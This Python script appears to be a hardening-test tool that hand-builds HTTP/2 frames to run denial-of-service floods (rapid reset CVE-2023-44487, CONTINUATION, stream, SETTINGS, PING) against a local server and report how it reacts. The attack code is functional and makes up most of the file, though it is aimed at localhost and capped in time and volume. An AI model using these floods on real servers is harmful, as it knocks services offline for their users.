#!/usr/bin/env python3
"""HTTP/2 abuse over h2c prior knowledge with hand-built frames (checks/h2abuse.sh).

    tools/h2flood.py MODE --port P [--conns N] [--duration S] [--path /small]

Modes:
  rapid-reset   HEADERS (END_STREAM) immediately followed by RST_STREAM(CANCEL), in
                batches, as fast as the socket takes them (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then CONTINUATION frames without end
                (each a valid literal header), never finishing the header block
  stream-flood  opens streams (POST, no END_STREAM, no body) far beyond the server's
                SETTINGS_MAX_CONCURRENT_STREAMS and keeps them open
  settings      SETTINGS frames back to back without ever reading the ACKs
  ping          PING frames back to back without ever reading the ACKs
  reset-storm   like rapid-reset but the server's responses are never read

Each connection stops when the server closes it, after --duration, or after --max-mb of
frames sent. Prints one JSON line: what was sent, and what the server answered (frames by
type, RST_STREAM and GOAWAY error codes, whether and when it closed).
"""

import argparse
import collections
import json
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
TYPES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS", 5: "PUSH_PROMISE", 6: "PING",
         7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
          5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
          10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def literal(name_index, value):
    """HPACK literal header field without indexing, indexed name (RFC 7541 6.2.2)."""
    v = value.encode()
    assert name_index < 15 and len(v) < 127
    return bytes([name_index, len(v)]) + v


def request_block(method, path, authority):
    m = b"\x82" if method == "GET" else b"\x83"  # static table 2/3: :method GET/POST
    return m + b"\x86" + literal(4, path) + literal(1, authority)  # :scheme http, :path, :authority


class Conn:
    def __init__(self, port, read=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=3)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.frames = collections.Counter()
        self.rst = collections.Counter()
        self.goaway = None
        self.closed_after = None
        self.blocked_after = None
        self.max_streams = None
        self.started = time.monotonic()
        self.sent_bytes = 0
        self.sent_frames = 0
        self.dead = threading.Event()
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        if read:
            threading.Thread(target=self.reader, daemon=True).start()

    def send(self, data, frames=0):
        try:
            self.sock.sendall(data)
        except socket.timeout:
            # The server stopped reading (its own writes back up because we never read):
            # backpressure, not a close.
            self.blocked_after = round(time.monotonic() - self.started, 2)
            self.dead.set()
            return False
        except OSError:
            self.mark_closed()
            return False
        self.sent_bytes += len(data)
        self.sent_frames += frames
        return True

    def mark_closed(self):
        if not self.dead.is_set():
            self.closed_after = round(time.monotonic() - self.started, 2)
            self.dead.set()

    def reader(self):
        buf = b""
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    ftype, flags, payload = buf[3], buf[4], buf[9 : 9 + n]
                    buf = buf[9 + n :]
                    self.frames[TYPES.get(ftype, str(ftype))] += 1
                    if ftype == RST_STREAM:
                        self.rst[ERRORS.get(struct.unpack(">I", payload[:4])[0], "?")] += 1
                    elif ftype == GOAWAY:
                        last, code = struct.unpack(">II", payload[:8])
                        self.goaway = {"error": ERRORS.get(code, str(code)), "last_stream": last & 0x7FFFFFFF,
                                       "after_s": round(time.monotonic() - self.started, 2)}
                    elif ftype == SETTINGS and not flags & ACK:
                        for i in range(0, len(payload) - 5, 6):
                            ident, value = struct.unpack(">HI", payload[i : i + 6])
                            if ident == 3:
                                self.max_streams = value
                        self.send(frame(SETTINGS, ACK, 0))
        except socket.timeout:
            return  # still open: a late read (settings/ping/reset-storm) found nothing more
        except OSError:
            pass
        self.mark_closed()

    def report(self):
        return {"sent_frames": self.sent_frames, "sent_mb": round(self.sent_bytes / 1e6, 2),
                "server_frames": dict(self.frames), "rst_stream": dict(self.rst), "goaway": self.goaway,
                "closed_after_s": self.closed_after, "send_blocked_after_s": self.blocked_after, "max_concurrent_streams": self.max_streams}


def rapid_reset(c, args, read=True):
    block = request_block("GET", args.path, "app.example")
    sid = 1
    while not stop(c, args):
        batch = []
        for _ in range(100):
            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
            batch.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
            sid += 2
            if sid > 0x7FFFFFF0:
                return
        if not c.send(b"".join(batch), 200):
            return


def continuation(c, args):
    c.send(frame(HEADERS, 0, 1, request_block("GET", args.path, "app.example")), 1)
    n = 0
    while not stop(c, args):
        batch = []
        for _ in range(50):
            name, value = f"x-flood-{n % 1000}".encode(), b"v" * 100
            batch.append(frame(CONTINUATION, 0, 1, b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value))
            n += 1
        if not c.send(b"".join(batch), 50):
            return


def stream_flood(c, args):
    block = request_block("POST", args.path, "app.example")
    sid = 1
    while not stop(c, args) and sid < 2 * args.streams:
        batch = [frame(HEADERS, END_HEADERS, s, block) for s in range(sid, sid + 200, 2)]
        sid += 200
        if not c.send(b"".join(batch), len(batch)):
            return
    while not stop(c, args):  # keep them open
        time.sleep(0.2)


def settings_flood(c, args):
    payload = struct.pack(">HI", 4, 65535 + 1)  # INITIAL_WINDOW_SIZE
    while not stop(c, args):
        if not c.send(frame(SETTINGS, 0, 0, payload) * 500, 500):
            return


def ping_flood(c, args):
    while not stop(c, args):
        if not c.send(frame(PING, 0, 0, b"12345678") * 500, 500):
            return


def stop(c, args):
    return c.dead.is_set() or time.monotonic() - c.started > args.duration or c.sent_bytes > args.max_mb * 1e6


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["rapid-reset", "continuation", "stream-flood", "settings", "ping", "reset-storm"])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--conns", type=int, default=1)
    ap.add_argument("--duration", type=float, default=10)
    ap.add_argument("--max-mb", type=float, default=200)
    ap.add_argument("--streams", type=int, default=10000, help="stream-flood: streams to open")
    ap.add_argument("--path", default="/small")
    args = ap.parse_args()
    # The server's unread answers (settings/ping/reset-storm) are part of the abuse: those modes never read.
    read = args.mode not in ("settings", "ping", "reset-storm")
    run = {"rapid-reset": rapid_reset, "continuation": continuation, "stream-flood": stream_flood,
           "settings": settings_flood, "ping": ping_flood, "reset-storm": rapid_reset}[args.mode]
    conns, threads = [], []
    for _ in range(args.conns):
        try:
            c = Conn(args.port, read=read)
        except OSError as e:
            print(json.dumps({"mode": args.mode, "connect_error": str(e)}))
            continue
        conns.append(c)
        t = threading.Thread(target=run, args=(c, args), daemon=True)
        t.start()
        threads.append(t)
    for t in threads:
        t.join(args.duration + 5)
    if not read:
        # What the server said after all, and whether it had closed: read what is buffered.
        for c in conns:
            c.sock.settimeout(1)
            threading.Thread(target=c.reader, daemon=True).start()
        time.sleep(1.5)
    else:
        time.sleep(0.5)
    reports = [c.report() for c in conns]
    total = collections.Counter()
    rst, goaways, closed = collections.Counter(), collections.Counter(), 0
    for r in reports:
        total.update(r["server_frames"])
        rst.update(r["rst_stream"])
        if r["goaway"]:
            goaways[r["goaway"]["error"]] += 1
        closed += r["closed_after_s"] is not None
    for c in conns:
        c.sock.close()
    print(json.dumps({
        "mode": args.mode, "conns": len(conns), "sent_frames": sum(r["sent_frames"] for r in reports),
        "sent_mb": round(sum(r["sent_mb"] for r in reports), 1), "server_frames": dict(total), "rst_stream": dict(rst),
        "goaway": dict(goaways), "closed_by_server": closed,
        "closed_after_s": sorted(r["closed_after_s"] for r in reports if r["closed_after_s"] is not None),
        "goaway_after_s": sorted(r["goaway"]["after_s"] for r in reports if r["goaway"]),
        "send_blocked_after_s": sorted(r["send_blocked_after_s"] for r in reports if r["send_blocked_after_s"] is not None),
        "max_concurrent_streams": reports[0]["max_concurrent_streams"] if reports else None}))


if __name__ == "__main__":
    main()
